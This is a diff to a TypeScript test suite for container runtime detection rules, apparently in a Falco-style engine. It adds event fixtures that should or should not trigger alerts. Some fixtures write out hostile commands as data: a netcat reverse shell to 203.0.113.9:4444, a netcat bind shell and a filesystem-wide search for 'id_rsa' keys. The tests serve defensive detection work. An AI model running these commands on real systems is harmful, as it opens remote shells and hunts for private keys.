@@ -133,6 +133,38 @@ const cases: Case[] = [
   },
   { rule: 'Netcat or socat with exec option', fire: () => [exec('/bin/nc', ['nc', '-lp', '9000', '-e', '/bin/sh'])], miss: () => [exec('/bin/nc', ['nc', '-lp', '9000'])] },
   { rule: 'Search for credentials', fire: () => [exec('/usr/bin/find', ['find', '/', '-name', 'id_rsa'])], miss: () => [exec('/usr/bin/find', ['find', '/app', '-name', '*.log'])] },
+  {
+    rule: 'Network socket redirected onto stdin or stdout',
+    fire: () => [exec('/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'], { pid: 90 }), ev('syscall.dup2', { oldfd: 3, newfd: 0, oldfd_socket: true, oldfd_family: 2, oldfd_family_name: 'AF_INET', ret: 0 }, { pid: 90, comm: 'nc' })],
+    // A unix socketpair onto stdout (a supervisor's log pipe) is ordinary.
+    miss: () => [ev('syscall.dup2', { oldfd: 3, newfd: 1, oldfd_socket: true, oldfd_family: 1, oldfd_family_name: 'AF_UNIX', ret: 1 }, { comm: 'supervisord' })],
+  },
+  {
+    rule: 'Ptrace anti-debugging in container',
+    fire: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: -1 }, { comm: 'malware' })],
+    miss: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: 0 }, { comm: 'gdb', container: null })],
+  },
+  {
+    rule: 'Outbound SSH to non-standard port',
+    fire: () => [exec('/usr/bin/ssh', ['ssh', '-p', '2222', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 2222, ret: 0 }, { pid: 70, comm: 'ssh' })],
+    miss: () => [exec('/usr/bin/ssh', ['ssh', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 22, ret: 0 }, { pid: 70, comm: 'ssh' })],
+  },
+  {
+    rule: 'Contact with the Kubernetes API server',
+    fire: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.1', dport: 443, ret: -115 }, { comm: 'curl' })],
+    miss: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.10', dport: 53, ret: 0 }, { comm: 'curl' })],
+  },
+  {
+    rule: 'Kernel module load attempt in container',
+    fire: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: -1, blocked: true }, { comm: 'insmod' })],
+    miss: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: 0 }, { comm: 'insmod', container: null })],
+  },
+  {
+    rule: 'System user interactive session',
+    fire: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh'], ppid: 1, uid: 33, ns_pid: 7, tty: 136 << 20 }, { comm: 'sh' })],
+    miss: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh', '-c', 'php artisan queue:work'], ppid: 1, uid: 33, ns_pid: 7, tty: 0 }, { comm: 'sh' })],
+  },
+  { rule: 'Debugfs run in container', fire: () => [exec('/sbin/debugfs', ['debugfs', '/dev/sda1'])], miss: () => [exec('/sbin/dumpe2fs', ['dumpe2fs', '/dev/sda1'])] },
 ];
 
 function run(events: IEvent[], frozen: string[] = []): AlertEvent[] {
